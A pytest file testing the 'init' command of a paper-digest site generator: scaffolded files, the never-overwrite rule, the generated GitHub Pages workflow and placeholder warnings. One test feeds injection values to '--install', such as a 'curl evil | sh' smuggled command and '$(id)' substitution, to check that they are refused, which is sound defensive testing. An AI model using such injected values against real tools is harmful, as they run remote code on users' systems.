"""``digestgen init``: a new site that loads and builds as it is, and never an overwritten file."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from digestgen import __version__
from digestgen.commands.init import init
from digestgen.configload import load_config
from digestgen import configfile
from digestgen.cli import main
from digestgen.scaffold import CONFIG_TEXT
from digestgen.content.load import load_content
from sitekit import commented_section

FILES = ["digestgen.yaml", "content/papers/2403.14715.yaml", ".gitignore",
         ".github/workflows/pages.yml", ".github/workflows/daily.yml"]
SPEC_KEYS = ["title", "description", "base_url", "languages", "source_language",
             "issue_period", "output_dir", "repo_url", "markdown", "html", "arxiv_api", "search",
             "translate", "daily"]


@pytest.fixture(autouse=True)
def plain_git(tmp_path_factory, monkeypatch):
    """git without personal configuration: new repositories start on ``main``."""
    home = tmp_path_factory.mktemp("home")
    (home / "gitconfig").write_text("")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(Path(tmp_path_factory.getbasetemp())))
    return home / "gitconfig"


def run_init(*args: str):
    return CliRunner().invoke(init, list(args))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


def test_the_commented_translate_example_is_a_valid_section(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert run_init("mydigest").exit_code == 0
    config_path = tmp_path / "mydigest" / "digestgen.yaml"
    text = config_path.read_text()
    config_path.write_text(text + "\n".join(commented_section(text, "translate")) + "\n")
    settings = load_config(config_path).translate
    assert (settings.api, settings.model, settings.api_key_env) == \
        ("https://api.openai.com/v1", "gpt-4o-mini", "OPENAI_API_KEY")
    assert settings.glossary == tmp_path / "mydigest" / "glossary.yaml"
    assert (settings.concurrency, settings.requests_per_minute, settings.timeout) == (4, 60, 60)


def test_init_writes_a_site_that_loads(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run_init("mydigest")
    assert result.exit_code == 0, result.output
    site = tmp_path / "mydigest"
    assert sorted(snapshot(site)) == sorted(FILES)
    for name in FILES:
        assert f"wrote {name}" in result.output
    assert "cd mydigest\n  digestgen build" in result.output

    config = load_config(site / "digestgen.yaml")
    assert config.title_in("en") == "Paper Digest" and config.title_in("zh") == "论文速递"
    assert set(SPEC_KEYS) - {"html"} == configfile._KEYS  # every key the reader knows
    assert config.base_url == "https://USER.github.io/REPO/"
    assert config.languages == ("zh", "en")
    assert config.output_dir == site / "site"
    text = (site / "digestgen.yaml").read_text()
    for key in SPEC_KEYS:  # every key is there, set or commented out, with a comment above
        lines = text.splitlines()
        where = next(i for i, line in enumerate(lines)
                     if line.lstrip("# ").startswith(f"{key}:"))
        assert lines[where - 1].lstrip().startswith("#") or key == "html", key

    (paper,) = load_content(config).papers
    assert paper.id == "2403.14715"
    assert paper.title["zh"] == "理解为何标签平滑会降低选择性分类的效果以及如何解决这个问题"
    assert str(paper.date) == "2024-03-22"
    for text_value in (paper.title, paper.tldr, paper.abstract):
        assert set(text_value.languages()) == {"zh", "en"}

    ignored = (site / ".gitignore").read_text().splitlines()
    assert {"site/", ".digestgen-cache/", ".site.*"} <= set(ignored)


def test_the_example_paper_is_a_clean_record(tmp_path):
    run_init(str(tmp_path))
    record = yaml.safe_load((tmp_path / "content/papers/2403.14715.yaml").read_text())
    order = ["id", "title", "date", "authors", "url", "pdf", "arxiv", "tldr", "abstract",
             "abstract_truncated", "review", "venue", "field", "citations", "references",
             "tags", "draft", "notes"]
    assert list(record) == [key for key in order if key in record]
    assert record["arxiv"]["announce_type"] == "cross"


def test_init_never_overwrites_and_says_what_it_kept(tmp_path):
    mine = "title: Mine\nbase_url: https://me.example/\n"
    (tmp_path / "digestgen.yaml").write_text(mine)
    (tmp_path / ".gitignore").write_text("*.log\n")
    result = run_init(str(tmp_path))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "digestgen.yaml").read_text() == mine
    assert (tmp_path / ".gitignore").read_text() == "*.log\n"
    assert "kept  digestgen.yaml (it exists; not overwritten)" in result.output
    assert "kept  .gitignore (it exists; not overwritten)" in result.output
    assert "make sure .gitignore ignores site/, .digestgen-cache/, .site.*" in result.output
    assert "wrote .github/workflows/pages.yml" in result.output
    assert (tmp_path / "content/papers/2403.14715.yaml").is_file()

    before = snapshot(tmp_path)
    again = run_init(str(tmp_path))
    assert again.exit_code == 0, again.output
    assert "wrote" not in again.output
    assert again.output.count("not overwritten") == len(FILES)
    assert snapshot(tmp_path) == before


def test_no_example_paper_next_to_real_papers(tmp_path):
    papers = tmp_path / "content" / "papers"
    papers.mkdir(parents=True)
    (papers / "2310.02664.yaml").write_text("id: '2310.02664'\n")
    result = run_init(str(tmp_path))
    assert result.exit_code == 0, result.output
    assert ("kept  content/papers/2403.14715.yaml (content/papers/ already holds papers; "
            "not overwritten)") in result.output
    assert [p.name for p in papers.iterdir()] == ["2310.02664.yaml"]


def test_the_workflow_installs_this_version_and_publishes_the_current_branch(tmp_path):
    subprocess.run(["git", "init", "--quiet", "-b", "trunk", str(tmp_path)], check=True)
    assert run_init(str(tmp_path)).exit_code == 0
    workflow = yaml.safe_load((tmp_path / ".github/workflows/pages.yml").read_text())
    assert workflow[True]["push"]["branches"] == ["trunk"]  # PyYAML reads `on:` as True
    runs = [step.get("run", "") for step in workflow["jobs"]["build"]["steps"]]
    assert f'python -m pip install "digestgen=={__version__}"' in runs


def test_outside_a_repository_the_workflow_follows_git_s_default_branch(tmp_path, plain_git):
    assert run_init(str(tmp_path / "a")).exit_code == 0
    assert "branches: [main]" in (tmp_path / "a/.github/workflows/pages.yml").read_text()
    plain_git.write_text("[init]\n\tdefaultBranch = master\n")
    assert run_init(str(tmp_path / "b")).exit_code == 0
    assert "branches: [master]" in (tmp_path / "b/.github/workflows/pages.yml").read_text()


def test_a_site_inside_a_larger_repository_gets_a_note_about_the_workflow(tmp_path):
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)
    result = run_init(str(tmp_path / "digest"))
    assert result.exit_code == 0, result.output
    assert "GitHub runs workflows only from" in result.output
    assert "`working-directory: digest`" in result.output


def test_a_file_that_cannot_be_written_is_an_error_and_the_rest_is_written(tmp_path):
    (tmp_path / "content").write_text("a file where a folder should be\n")
    result = run_init(str(tmp_path))
    assert result.exit_code == 1
    assert f"Error: cannot write {tmp_path}/content/papers/2403.14715.yaml" in result.output
    assert "Traceback" not in result.output
    assert (tmp_path / "content").read_text() == "a file where a folder should be\n"
    assert sorted(snapshot(tmp_path)) == sorted(set(FILES) - {FILES[1]} | {"content"})
    assert list(tmp_path.glob(".digestgen-init-*")) == []  # no temporary file left behind
    taken = run_init(str(tmp_path / "content"))  # a file as the site folder
    assert taken.exit_code != 0 and "Traceback" not in taken.output


def test_help_explains_the_overwrite_rule():
    result = run_init("--help")
    assert "never overwritten" in result.output
    assert "exit status is 0" in result.output


def test_init_then_build_gives_the_paper_page(tmp_path, monkeypatch):
    pytest.importorskip("digestgen.commands.build", reason="digestgen build is not there yet")
    from digestgen.cli import main

    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(main, ["init", "mydigest"]).exit_code == 0
    monkeypatch.chdir(tmp_path / "mydigest")
    result = CliRunner().invoke(main, ["build", "-q"])
    assert result.exit_code == 0, result.output
    page = tmp_path / "mydigest/site/papers/2403.14715/index.html"
    assert page.is_file()
    html = page.read_text(encoding="utf-8")
    assert "理解为何标签平滑会降低选择性分类的效果以及如何解决这个问题" in html
    assert "Understanding Why Label Smoothing Degrades Selective Classification" in html
    assert (tmp_path / "mydigest/site/index.html").is_file()


def test_the_workflow_installs_what_install_names(tmp_path):
    spec = "git+https://github.com/alice/digestgen@v0.1.0"
    assert run_init(str(tmp_path / "a"), "--install", spec).exit_code == 0
    workflow = (tmp_path / "a" / ".github/workflows/pages.yml").read_text()
    assert f'run: python -m pip install "{spec}"' in workflow
    assert run_init(str(tmp_path / "b")).exit_code == 0
    workflow = (tmp_path / "b" / ".github/workflows/pages.yml").read_text()
    assert f'run: python -m pip install "digestgen=={__version__}"' in workflow


@pytest.mark.parametrize("spec", ['x"; curl evil | sh; "', "digestgen $(id)", ""])
def test_an_install_that_is_not_a_requirement_is_refused(tmp_path, spec):
    result = run_init(str(tmp_path / "a"), "--install", spec)
    assert result.exit_code == 2
    assert "Invalid value for '--install'" in result.output
    assert not (tmp_path / "a").exists()


def test_build_and_check_warn_about_the_placeholder_base_url_and_deploy_refuses_it(tmp_path):
    assert run_init(str(tmp_path / "a")).exit_code == 0
    config = str(tmp_path / "a" / "digestgen.yaml")
    runner = CliRunner()
    warning = (f"Warning: {config}:"
               f"{CONFIG_TEXT.splitlines().index('base_url: https://USER.github.io/REPO/') + 1}:"
               " base_url is still the placeholder https://USER.github.io/REPO/")
    for command in (["build", "-q"], ["check"]):
        result = runner.invoke(main, [*command, "--config", config])
        assert result.exit_code == 0, result.output
        assert result.stderr.startswith(warning), result.stderr
    result = runner.invoke(main, ["check", "--config", config, "--base-url", "https://a.b/"])
    assert "placeholder" not in result.stderr
    result = runner.invoke(main, ["deploy", "--config", config])
    assert result.exit_code == 1
    assert "base_url is still the placeholder" in result.stderr
